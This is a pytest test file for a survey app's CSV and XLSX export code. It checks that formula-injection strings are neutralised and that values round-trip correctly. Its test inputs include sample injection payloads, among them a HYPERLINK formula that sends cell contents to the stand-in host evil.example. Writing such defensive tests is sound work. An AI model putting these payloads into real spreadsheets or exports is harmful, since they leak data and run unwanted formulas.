"""CSV and XLSX exports: formula injection neutralised, values round-trip."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from analysis.reporting.exports import neutralise, write_csv, write_xlsx
from survey.workspace.exporting import EXPORT_DATES

NASTY = [
    "=1+1",
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd",
    "\r=cmd",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "  =1+1",
    "＝1+1",
]
ROWS = [
    {"id": 1, "text": "=1+1", "score": -3, "share": 12.5, "flag": True},
    {"id": 2, "text": "Rydw i'n hoffi'r ysgol ŵ ŷ", "score": 0, "share": None, "flag": False},
    {"id": 3, "text": "أريد مكانا آمنا للعب", "score": 7, "share": 0.25, "flag": None},
    {"id": 4, "text": 'line one\nline two, with comma "quoted"', "score": -1.5},
    *[{"id": 10 + i, "text": t, "score": i} for i, t in enumerate(NASTY)],
]
COLUMNS = ["id", "text", "score", "share", "flag"]


@pytest.mark.parametrize("text", NASTY)
def test_neutralise_prefixes_formula_starts(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["hello", "1+1", "", "a=b", "'already"])
def test_neutralise_leaves_plain_text(text):
    assert neutralise(text) == text


def to_csv(rows, columns) -> bytes:
    out = io.BytesIO()
    write_csv(rows, columns, out, dates=EXPORT_DATES)
    return out.getvalue()


def to_xlsx(sheets) -> bytes:
    out = io.BytesIO()
    write_xlsx(sheets, out, dates=EXPORT_DATES)
    return out.getvalue()


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_round_trips_and_neutralises():
    table = _read_csv(to_csv(ROWS, COLUMNS))
    assert table[0] == COLUMNS
    by_id = {row[0]: row for row in table[1:]}
    assert by_id["1"] == ["1", "'=1+1", "-3", "12.5", "Yes"]
    assert by_id["2"][1] == "Rydw i'n hoffi'r ysgol ŵ ŷ"
    assert by_id["2"][3] == ""  # None is an empty cell
    assert by_id["3"][1] == "أريد مكانا آمنا للعب"
    assert by_id["4"][1] == 'line one\nline two, with comma "quoted"'
    assert by_id["4"][2] == "-1.5"  # a real negative number stays a number
    for i, text in enumerate(NASTY):
        assert by_id[str(10 + i)][1] == "'" + text
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus


def test_csv_headings_are_neutralised_and_can_be_relabelled():
    table = _read_csv(to_csv([{"a": 1}], [("a", "=evil heading")]))
    assert table == [["'=evil heading"], ["1"]]


def test_csv_leaves_out_unlisted_columns():
    table = _read_csv(to_csv([{"a": 1, "secret": "x"}], ["a"]))
    assert table == [["a"], ["1"]]


def test_xlsx_never_holds_a_formula_and_values_round_trip():
    data = to_xlsx({"responses": (COLUMNS, ROWS), "empty": (["a"], [])})
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["responses", "empty"]
    ws = wb["responses"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0] == COLUMNS
    assert values[1] == [1, "'=1+1", -3, 12.5, "Yes"]
    assert ws["C2"].data_type == "n"  # -3 is a number
    assert ws["B2"].data_type == "s"
    assert values[3][1] == "أريد مكانا آمنا للعب"
    for i, text in enumerate(NASTY):
        # the standard library's XML reader turns a stored carriage return into a line feed;
        # lxml's (there when python-docx is installed) keeps it
        assert values[5 + i][1] in ("'" + text, "'" + text.replace("\r", "\n"))
        assert ws.cell(row=6 + i, column=2).data_type == "s"
    assert wb.properties.creator == "Have Your Say"


def test_xlsx_sheet_names_are_made_legal_and_unique():
    data = to_xlsx({"a/b": (["x"], []), "A_b": (["x"], []), "x" * 40: (["x"], [])})
    names = load_workbook(io.BytesIO(data)).sheetnames
    assert names[0] == "a_b" and names[1] == "A_b (2)"
    assert len(names[2]) == 31


def test_xlsx_survives_control_characters():
    data = to_xlsx({"s": (["t"], [{"t": "bad\x01char"}])})
    ws = load_workbook(io.BytesIO(data))["s"]
    assert ws["A2"].value == "bad\ufffdchar"


def test_csv_rows_are_written_as_they_arrive_not_gathered_first():
    out = io.BytesIO()
    written_while_reading: list[int] = []

    def rows():
        for n in range(20_000):
            if n == 19_999:
                written_while_reading.append(out.tell())
            yield {"a": n, "b": f"answer number {n}"}

    write_csv(rows(), ["a", "b"], out, dates=EXPORT_DATES)
    # most of the file was already out before the last row was even read
    assert written_while_reading[0] > len(out.getvalue()) * 0.9
    table = _read_csv(out.getvalue())
    assert len(table) == 20_001 and table[-1] == ["19999", "answer number 19999"]


def test_rows_beyond_a_sheets_limit_carry_on_in_a_new_sheet_with_the_heading():
    out = io.BytesIO()
    rows = ({"n": n} for n in range(7))
    write_xlsx({"responses": ([("n", "Number")], rows)}, out, max_rows=3, dates=EXPORT_DATES)
    wb = load_workbook(io.BytesIO(out.getvalue()))
    assert wb.sheetnames == ["responses", "responses (2)", "responses (3)"]
    sheets = [[c.value for c in ws["A"]] for ws in wb.worksheets]
    assert sheets == [["Number", 0, 1, 2], ["Number", 3, 4, 5], ["Number", 6]]
